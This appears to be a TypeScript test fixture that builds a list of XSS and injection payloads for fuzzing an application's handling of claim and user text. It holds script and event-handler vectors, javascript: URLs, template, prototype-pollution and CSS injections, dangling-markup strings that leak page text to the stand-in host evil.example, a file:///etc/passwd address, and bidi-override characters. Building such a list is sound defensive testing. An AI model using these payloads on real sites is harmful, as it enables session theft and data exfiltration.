/*
 * Texts that become something else wherever text is taken for markup, script, style, an address, a template, or a direction of writing. All of them
 * set `__xss` if they run. They come out of files of payers and clearinghouses, and out of what people type.
 */

/** What makes an element run by itself. */
const RUNS = [
  '<script>__xss=1</script>',
  '<script src=//evil.example>',
  '<img src=x onerror=__xss=1>',
  '<img/src/onerror=__xss=1>',
  '<image src=x onerror=__xss=1>',
  '<svg onload=__xss=1>',
  '<svg/onload=__xss=1>',
  '<svg><script>__xss=1</script>',
  '<svg><animate onbegin=__xss=1>',
  '<svg><a xlink:href=javascript:__xss=1>x',
  '<svg><set onbegin=__xss=1>',
  '<math><mi xlink:href=javascript:__xss=1>',
  '<math><mtext><table><mglyph><style><img src onerror=__xss=1>',
  '<body onload=__xss=1>',
  '<iframe src=javascript:__xss=1>',
  '<iframe srcdoc="<script>top.__xss=1</script>">',
  '<object data=javascript:__xss=1>',
  '<embed src=javascript:__xss=1>',
  '<input autofocus onfocus=__xss=1>',
  '<select autofocus onfocus=__xss=1>',
  '<textarea autofocus onfocus=__xss=1>',
  '<details open ontoggle=__xss=1>',
  '<video><source onerror=__xss=1>',
  '<audio src=x onerror=__xss=1>',
  '<marquee onstart=__xss=1>',
  '<a href=javascript:__xss=1>x</a>',
  '<form action=javascript:__xss=1><button>',
  '<button formaction=javascript:__xss=1>',
  '<link rel=stylesheet href=//evil.example>',
  '<link rel=import href=data:,x>',
  '<meta http-equiv=refresh content=0;//evil.example>',
  '<base href=//evil.example>',
  '<style>*{background:url(//evil.example)}',
  '<style onload=__xss=1>',
  '<div style=background:url(//evil.example)>',
  '<p onmouseover=__xss=1>x',
  '<x onclick=__xss=1>x',
  '<x contenteditable onblur=__xss=1>',
  '<template><script>__xss=1</script>',
  '<noscript><p title="</noscript><img src onerror=__xss=1>">',
  '<xmp><p title="</xmp><img src onerror=__xss=1>">',
  '<xml><i xmlns:x=x>',
  '<isindex onfocus=__xss=1>',
  '<frameset onload=__xss=1>',
  '<keygen autofocus onfocus=__xss=1>',
  '<plaintext>',
  '<webview src=//evil.example>',
  '<portal src=//evil.example>',
  '<dialog open>x',
  '<ScRiPt>__xss=1</sCrIpT>',
]

/** What ends the text that it might stand in. */
const ENDS = ['', '">', "'>", '-->', '</p>', '\r\n']

const ADDRESSES = [...['javascript', 'JaVaScRiPt', ' javascript'].map((scheme) => `${scheme}:__xss=1`), 'java\tscript:__xss=1', '\x01javascript:__xss=1', 'vbscript:x', 'data:text/html,<script>__xss=1</script>', 'data:image/svg+xml,<svg onload=__xss=1>', 'file:///etc/passwd', '//evil.example/x', 'https://evil.example/?', 'app://bundle/index.html', 'blob:app://bundle/x', '\\\\evil.example\\x', 'mailto:x@evil.example'] // prettier-ignore

const TEMPLATES = ['{{constructor.constructor("__xss=1")()}}', '${__xss=1}', '#{__xss=1}', '<%= __xss=1 %>', '{%raw%}', '{{claim.id}}', '{{your.reason}}', '{{7*7}}', '[[x]]', '%s%n', '$&', "$'", '$`', '$1', '@{x}', '*{x}'] // prettier-ignore

const STYLES = ['}*{background:url(//evil.example)}', ';background:url(//evil.example)', 'expression(__xss=1)', '@import "//evil.example"', '</style><img src onerror=__xss=1>', '--x:url(//evil.example)', 'red;position:fixed;inset:0', '\\3c script>'] // prettier-ignore

/** What breaks out of a text of JSON or a script, and what a library might take for its own. */
const STRINGS = ['";__xss=1//', "';__xss=1//", '`;__xss=1//', '\\";__xss=1//', '</script><script>__xss=1</script>', '\u2028__xss=1', '\u2029__xss=1', '"}],"x":"', '\\u003cimg src onerror=__xss=1\\u003e', '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=__xss=1>"}}', '{"$$typeof":"Symbol(react.element)"}', '{"__proto__":{"x":1}}', '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '[object Object]', 'undefined', 'null', 'NaN', 'true', '$undefined', '$L1', 'children', 'key', 'ref', 'mantine-x', 'var(--x)', '<!--', '<![CDATA[x]]>', '<?xml version="1.0"?>', '<!DOCTYPE x [<!ENTITY x "x">]>', '&lt;img src=x onerror=__xss=1&gt;', '&#60;img src=x onerror=__xss=1&#62;', '&amp;lt;b&gt;', '%3Cscript%3E', '+ADw-script+AD4-', '\uFF1Cscript\uFF1E', '\u2039script\u203A'] // prettier-ignore

/** A tag or an attribute that is left open takes what follows it. */
const DANGLING = ["<img src='//evil.example/?", '<a href="//evil.example/?', '<textarea>', '<title>', '<select>', '<option>', '<table><tr><td>', '<!--', '<form id=x>', '<input name=body>', '<a id=parity>', '<img name=parity>', '<', '</', '<>', '< script>', '<\0script>', '<script'] // prettier-ignore

/** What is not seen, or changes the order in which the rest is read. */
const SIGNS = ['\u202Etxt.exe', 'a\u202Db', 'a\u202Ab\u202C', 'a\u202Bb', 'a\u2066b\u2069', 'a\u2067b', 'a\u2068b', 'a\u200Eb', 'a\u200Fb', 'a\u061Cb', 'a\u200Bb', 'a\u2060b', 'a\uFEFFb', 'a\u00ADb', 'a\u180Eb', 'a\u034Fb', 'a\u{E0041}b', 'a\uFFF9b\uFFFAc\uFFFB', 'a\0b', 'a\x07b', 'a\x08b', 'a\x1B[31mb', 'a\x7Fb', 'a\u0085b', 'a\u009Bb', 'a\uD800b', 'a\uDC00b', 'a\uFFFEb', 'שלום עולם', 'مرحبا <b>', 'e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308', 'a\nb', 'a\tb', '👩‍👩‍👧‍👦', '1️⃣'] // prettier-ignore

const LONG = ['<b>'.repeat(60), '('.repeat(150), 'W'.repeat(220), '\u202E'.repeat(40), 'x '.repeat(110), '👩‍👧'.repeat(20)]

const among = RUNS.flatMap((run) => ENDS.map((end) => end + run))

/** Each once; none is empty, and most fit where a name fits. */
export const PAYLOADS: readonly string[] = [
  ...new Set([...among, ...ADDRESSES, ...TEMPLATES, ...STYLES, ...STRINGS, ...DANGLING, ...SIGNS, ...LONG]),
]
